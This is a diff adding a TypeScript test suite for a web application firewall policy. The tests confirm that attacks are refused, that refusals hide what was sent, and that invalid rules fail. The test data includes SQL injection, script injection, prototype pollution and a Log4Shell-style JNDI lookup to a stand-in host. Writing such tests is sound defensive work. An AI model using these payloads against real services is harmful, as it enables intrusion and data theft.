@@ -1,0 +1,164 @@
+import assert from 'node:assert/strict';
+import { suite, test } from 'node:test';
+import { attacks } from '../deny-patterns/attacks.corpus.ts';
+import { legitimate } from '../deny-patterns/legitimate.corpus.ts';
+import type { Refusal } from '../../refusal.ts';
+import { compilePolicy, testExchange, type TestRequest } from '../../testing.ts';
+import { policy } from './policy.ts';
+
+function refusalOf(options: Record<string, unknown>, request: TestRequest): Refusal | undefined {
+  const verdict = compilePolicy(policy, options).inspect?.(testExchange(request));
+  assert.ok(!(verdict instanceof Promise));
+  return verdict;
+}
+
+const reasonOf = (...given: Parameters<typeof refusalOf>) => refusalOf(...given)?.reason;
+const query = (value: string): TestRequest => ({
+  url: `/things/v1/things/1?a=b&value=${encodeURIComponent(value)}&c`,
+});
+const bodyOf = (type: string, text: string): TestRequest => ({
+  method: 'POST',
+  headers: ['Content-Type', type, 'Content-Length', String(Buffer.byteLength(text))],
+  body: Buffer.from(text),
+});
+const json = (value: string) => bodyOf('application/json', JSON.stringify({ note: { text: [value] } }));
+const form = (value: string) =>
+  bodyOf(
+    'application/x-www-form-urlencoded',
+    new URLSearchParams({ value }).toString().replaceAll(';', '%3B'),
+  );
+const xml = (value: string) =>
+  bodyOf(
+    'application/xml',
+    `<a>${value.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll(']]>', ']]&gt;')}</a>`,
+  );
+
+/** Alone in a field these are a word or a line of prose: only the contract knows that they do not belong. */
+const toldByContractOnly = new Set(['`id`']);
+
+suite('the built-in rules', () => {
+  for (const [set, values] of Object.entries(attacks))
+    test(`find attacks by ${set} in query, JSON, form and text`, () => {
+      for (const value of values.filter(value => !toldByContractOnly.has(value)))
+        for (const [place, request] of Object.entries({
+          query: query(value),
+          json: json(value),
+          form: form(value),
+          text: bodyOf('text/plain', value),
+        }))
+          assert.ok(refusalOf({}, request) !== undefined, `${value} passes in ${place}`);
+    });
+
+  for (const value of legitimate)
+    test(`let ${JSON.stringify(value)} pass everywhere`, () => {
+      const printable = /^[^\x00-\x08\x0b\x0c\x0e-\x1f]*$/.test(value);
+      for (const request of [
+        query(value),
+        json(value),
+        form(value),
+        bodyOf('text/plain', value),
+        ...(printable ? [xml(value)] : []),
+      ])
+        assert.equal(reasonOf({}, request), undefined);
+    });
+
+  test('find what is encoded twice, in HTML entities, in escapes of JavaScript, and in XML', () => {
+    for (const request of [
+      { url: '/things/v1/things/1?a=%253Cscript%253E' },
+      query('&lt;script&gt;'),
+      query('\\u003cscript\\x3e'),
+      xml('<script>go()</script>'),
+      bodyOf('application/xml', '<a b="1&#39; or 1=1 --"/>'),
+      bodyOf('application/json', '{"__proto\\u005f_":{"a":1}}'),
+    ])
+      assert.notEqual(refusalOf({}, request), undefined, JSON.stringify(request));
+  });
+
+  test('find attacks in the path and in what headers clients choose', () => {
+    assert.match(reasonOf({}, { url: '/things/v1/things/1%27%20or%201=1--' }) ?? '', /REQUEST_FILENAME/);
+    assert.match(
+      reasonOf({}, { headers: ['User-Agent', '${jndi:ldap://evil.example/a}'] }) ?? '',
+      /REQUEST_HEADERS/,
+    );
+    assert.match(reasonOf({}, { headers: ['User-Agent', 'sqlmap/1.7'] }) ?? '', /REQUEST_HEADERS/);
+  });
+});
+
+suite('refusals', () => {
+  test('tell the caller the category, and people which rules, but nobody what was sent', () => {
+    const refusal = refusalOf({}, query("secret' union select password from users"));
+    assert.equal(refusal?.code, 'threat-detected');
+    assert.equal(refusal?.status, 403);
+    assert.equal(refusal?.detail, 'The request looks like an attack: SQL injection.');
+    assert.match(refusal?.reason ?? '', /^rules? 7701\d{3} in ARGS/);
+    assert.doesNotMatch(JSON.stringify(refusal), /secret|password|value/);
+  });
+
+  test('own rules refuse, alone or beside the built-in ones, and can take those back', () => {
+    const rules = 'SecRule ARGS:value "@streq no" "id:1,phase:2,deny"';
+    assert.equal(reasonOf({ rules }, query('no')), 'rule 1 in ARGS');
+    assert.equal(reasonOf({ rules, pack: false }, query('<script>')), undefined);
+    const without = 'SecRuleUpdateTargetByTag gatehouse-api "!ARGS:value"';
+    assert.equal(reasonOf({ rules: without }, query('<script>')), undefined);
+    assert.notEqual(reasonOf({ rules: without }, { url: '/things/v1/things/1?b=%3Cscript%3E' }), undefined);
+  });
+
+  test('JSON is named by the way to each leaf', () => {
+    const rules = 'SecRule ARGS:json.items.array_1.name "@streq x" "id:1,phase:2,deny"';
+    const request = bodyOf('application/json', '{"items":[{"name":"y"},{"name":"x"}]}');
+    assert.equal(reasonOf({ rules }, request), 'rule 1 in ARGS');
+  });
+});
+
+suite('what cannot be judged is refused', () => {
+  for (const [what, request, code] of [
+    ['JSON that is none', bodyOf('application/json', '{"a":'), 'body-malformed'],
+    ['a name twice', bodyOf('application/json', '{"a":1,"a":2}'), 'body-malformed'],
+    ['XML with a document type', bodyOf('application/xml', '<!DOCTYPE a><a/>'), 'body-malformed'],
+    ['a form that is not encoded', bodyOf('application/x-www-form-urlencoded', 'a=b c'), 'body-malformed'],
+    ['a body without a type', { method: 'POST', body: Buffer.from('a') }, 'content-type-unsupported'],
+    ['another charset', bodyOf('application/json; charset=utf-16', '{}'), 'content-type-unsupported'],
+    [
+      'a body in a content coding',
+      {
+        method: 'POST',
+        headers: ['Content-Type', 'application/json', 'Content-Encoding', 'br'],
+        body: Buffer.from('x'),
+      },
+      'content-coding-unsupported',
+    ],
+  ] as const)
+    test(what, () => assert.equal(refusalOf({}, request)?.code, code));
+
+  test('a request that would cost more to judge than one may', () => {
+    const many = JSON.stringify(
+      Object.fromEntries(Array.from({ length: 900 }, (_, i) => [`n${i}`, 'x'.repeat(900)])),
+    );
+    assert.equal(
+      reasonOf({ bodyBytes: 1_048_576 }, bodyOf('application/json', many)),
+      'more to inspect than one request may cost',
+    );
+  });
+
+  test('a body that says itself to be larger than is accepted, before it is read', () => {
+    const steps = compilePolicy(policy, { bodyBytes: 10 });
+    const verdict = steps.validate?.(testExchange(bodyOf('text/plain', 'x'.repeat(11))));
+    assert.equal((verdict as Refusal | undefined)?.code, 'body-too-large');
+    assert.equal(steps.bodyLimit, 10);
+    assert.equal(steps.needsBody, true);
+  });
+});
+
+suite('rules that cannot be run void the Snapshot', () => {
+  for (const [rules, why] of [
+    ['SecRule ARGS "@nope x" "id:1"', /rules:1:15: expected an operator, found "@nope"/],
+    ['SecRule ARGS "@rx (?=x)" "id:1"', /rules:1:15: @rx: expected a regular expression that RE2 reads/],
+    ['SecRule RESPONSE_STATUS "@eq 500" "id:1,phase:3"', /rule 1 judges answers/],
+    ['SecAction "id:7701010"', /expected an id of its own/],
+    ['Include /etc/passwd', /found none/],
+  ] as const)
+    test(rules, () => assert.throws(() => compilePolicy(policy, { rules }), why));
+
+  test('no rule at all', () =>
+    assert.throws(() => compilePolicy(policy, { pack: false }), /there is no rule to judge by/));
+});
